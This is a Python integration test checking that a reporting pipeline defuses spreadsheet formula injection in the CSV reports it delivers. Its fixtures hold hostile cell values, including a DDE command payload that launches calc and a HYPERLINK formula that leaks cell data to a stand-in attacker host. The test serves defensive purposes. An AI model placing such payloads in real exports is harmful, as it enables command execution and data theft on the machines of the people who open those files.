"""Formula injection (issue 12, finding 1): raw fields and dimension names that start like
a spreadsheet formula (`=`, `+`, `-`, `@`, tab, carriage return) reach the report CSVs
that marketers open in spreadsheets.

A landing zone written by hand puts such values in every text field a report shows (ids,
codes, user ids, error codes and messages) and in the wallet, campaign, partner and list
names, and runs it through the real pipeline (ingestion, dbt, publishing). Each of the
six report types must then deliver, read back with a plain CSV reader, exactly the rows
plain DuckDB computes from the raw lines, with every text cell that starts like a formula
prefixed by `'` (OWASP's advice), numbers, amounts and timestamps untouched (a debit's
`-20.25` stays a number), and the manifest counting the cells it changed."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime
from pathlib import Path

import duckdb
import pytest

from orchestration.settings import Settings
from tests.conftest import make_env, raw_views
from tests.helpers import run_daily, run_dimensions
from tests.integration.report_support import (
    CONTRACT_COLUMNS,
    deliver,
    expected_table,
    read_file,
    spec_of,
)

pytestmark = pytest.mark.reliability

D1, D2 = "2026-11-20", "2026-11-21"
NOW = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)
CALC = "=cmd|' /C calc'!A0"  # the attack's own example, in a User Errors file
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Columns a report renders itself (amounts, counts, instants, dates): never prefixed.
NOT_TEXT = {
    "points", "balance_effect", "expires_at", "transaction_time", "date", "points_credited",
    "points_debited", "points_expired", "points_promised", "points_reversed",
    "points_refunded", "net_change", "closing_balance", "transacting_users",
    "available_balance", "promised_balance", "first_transaction_time",
    "last_transaction_time", "assigned_time", "credits", "distributed_time", "error_time",
}  # fmt: skip

WALLET, CAMPAIGN, PARTNER, LIST_TAG = "@W1", "+C1", "-P1", "=L1"
WALLET_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def line(**fields) -> str:
    return json.dumps(fields) + "\n"


def tx(tid, ttype, source, user, points, at, **more) -> str:
    return line(transaction_id=tid, wallet_id=WALLET, user_id=user, transaction_type=ttype,
                transaction_source=source, points=points, occurred_at=at, **more)  # fmt: skip


def event(eid, user, status, at, **more) -> str:
    return line(event_id=eid, campaign_id=CAMPAIGN, user_id=user, reward_type="COUPON",
                status=status, occurred_at=at, **more)  # fmt: skip


def voucher(aid, code, user, at, **more) -> str:
    return line(assignment_id=aid, partner_id=PARTNER, list_tag=LIST_TAG, voucher_code=code,
                user_id=user, assigned_at=at, **more)  # fmt: skip


LANDING = {
    f"events/wallet_transactions/date={D1}/a.jsonl": [
        tx("=T1", "CREDIT", "PROMO_CAMPAIGN", "-u1", 100.5, f"{D1}T08:00:00Z",
           campaign_id=CAMPAIGN, expires_at="2027-11-20T00:00:00Z"),
        tx("@T2", "DEBIT", "CASHBACK_COUPON", "\tu2", 20.25, f"{D1}T09:00:00Z",
           coupon_code="+1+1"),
        tx("T3", "REVERSE", "API", "u3", 5, f"{D1}T10:00:00Z", reference_transaction_id="=T1"),
        tx("\rT4", "DEBIT", "SYSTEM", "u3", 300, f"{D1}T11:00:00Z"),
        # Look-alikes that are no formula: a leading space, a sign inside, a quote first.
        tx("T5", "CREDIT", "API", " =u5", 1, f"{D1}T12:00:00Z"),
        tx("T-6", "CREDIT", "API", "'=u6", 2, f"{D1}T13:00:00Z"),
    ],
    f"events/wallet_transactions/date={D2}/b.jsonl": [
        tx("-T7", "EXPIRED", "SYSTEM", "-u1", 50, f"{D2}T08:00:00Z"),
    ],
    f"events/reward_events/date={D1}/r.jsonl": [
        event("-E1", "=u1", "SUCCESS", f"{D1}T08:00:00Z", coupon_code="@CPN-1"),
        event("=E2", "+u2", "FAILED", f"{D1}T09:00:00Z", error_code="=ERR", error_message=CALC),
        event("E3", "u3", "FAILED", f"{D1}T10:00:00Z", error_code="-1",
              error_message="\t@SUM(A1:A9)"),
        event("E4", "u4", "FAILED", f"{D1}T11:00:00Z", error_code="E", error_message="\r+1"),
    ],
    f"events/voucher_assignments/date={D1}/v.jsonl": [
        voucher("@A1", "=V1", "+u1", f"{D1}T08:00:00Z", campaign_id="-C9"),
        voucher("A2", "V2", "u2", f"{D1}T09:00:00Z"),
    ],
    # In no report; here so that every stream has a landing folder.
    f"events/coupon_redemptions/date={D1}/c.jsonl": [
        line(redemption_id="=R1", coupon_code="@CPN-1", campaign_id=CAMPAIGN, user_id="=u1",
             benefit="DISCOUNT", discount_amount=5, redeemed_at=f"{D1}T12:00:00Z"),
    ],
    "dimensions/wallets.jsonl": [line(wallet_id=WALLET, name=WALLET_NAME, status="ACTIVE")],
    "dimensions/campaigns.jsonl": [
        line(campaign_id=CAMPAIGN, name=CALC, reward_type="COUPON", coupon_type="SINGLE",
             coupon_benefit="DISCOUNT", segment_kind="PAST_BEHAVIOR", status="RUNNING"),
    ],
    "dimensions/partners.jsonl": [line(partner_id=PARTNER, name="@partner|calc")],
    "dimensions/voucher_lists.jsonl": [
        line(partner_id=PARTNER, list_tag=LIST_TAG, name="+list", status="ACTIVE")
    ],
}  # fmt: skip

FILTERS = {
    "wallet_transactions": {"wallet_id": WALLET},
    "wallet_summary": {"wallet_id": WALLET},
    "user_ledger_summary": {"wallet_id": WALLET},
    "voucher_assignment_logs": {"partner_id": PARTNER, "list_tag": LIST_TAG},
    "reward_assignment": {"campaign_id": CAMPAIGN},
    "user_errors": {"campaign_id": CAMPAIGN},
}
DAYS = (date(2026, 11, 20), date(2026, 11, 21))


@pytest.fixture(scope="module")
def hostile_pipeline(tmp_path_factory):
    home = tmp_path_factory.mktemp("formula")
    settings = Settings.from_env(make_env(home))
    landing = Path(settings.landing_uri)
    for relative, lines in LANDING.items():
        target = landing / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("".join(lines), encoding="utf-8")
    assert run_dimensions(settings).success
    assert run_daily(settings, D1, D2).success
    con = duckdb.connect()
    raw_views(con, landing)
    yield settings, con
    con.close()


def neutralised(header: list[str], row: list[str]) -> list[str]:
    """OWASP's rule applied by hand: a text cell starting like a formula gets a `'`."""
    return [
        "'" + cell if column not in NOT_TEXT and cell.startswith(FORMULA_START) else cell
        for column, cell in zip(header, row, strict=True)
    ]


@pytest.mark.parametrize("report_type", list(CONTRACT_COLUMNS))
def test_formula_cells_are_neutralised_in_every_report_type(
    hostile_pipeline, report_type, record_fault
):
    settings, con = hostile_pipeline
    days = None if report_type == "user_ledger_summary" else DAYS
    delivered = deliver(settings, spec_of(report_type, FILTERS[report_type], days), now=NOW)
    got = read_file(Path(delivered.uri))
    plain = expected_table(con, report_type, FILTERS[report_type], days, "UTC")
    header = plain[0]
    assert got[0] == header
    risky = sum(
        1
        for row in plain[1:]
        for column, cell in zip(header, row, strict=True)
        if column not in NOT_TEXT and cell.startswith(FORMULA_START)
    )
    assert risky > 0, "the case has hostile cells"
    expected = [header] + [neutralised(header, row) for row in plain[1:]]
    assert got == expected
    assert delivered.manifest["formula_cells_neutralised"] == risky
    for row in got[1:]:
        for column, cell in zip(header, row, strict=True):
            if column not in NOT_TEXT:
                assert not cell.startswith(FORMULA_START), (column, cell)
    record_fault(
        f"formula injection in a {report_type} CSV",
        tried=risky,
        survived=risky if got == expected else 0,
    )


def test_user_errors_carry_the_attack_as_text_and_amounts_stay_numbers(hostile_pipeline):
    settings, _ = hostile_pipeline
    errors = deliver(settings, spec_of("user_errors", FILTERS["user_errors"], DAYS), now=NOW)
    table = read_file(Path(errors.uri))
    message = table[0].index("error_message")
    assert "'" + CALC in [row[message] for row in table[1:]]
    assert "'" + CALC in [row[table[0].index("campaign_name")] for row in table[1:]]

    wallet = deliver(
        settings, spec_of("wallet_transactions", FILTERS["wallet_transactions"], DAYS), now=NOW
    )
    table = read_file(Path(wallet.uri))
    effects = [row[table[0].index("balance_effect")] for row in table[1:]]
    assert "-20.25" in effects and "-300.00" in effects, effects
    assert {row[table[0].index("wallet_name")] for row in table[1:]} == {"'" + WALLET_NAME}
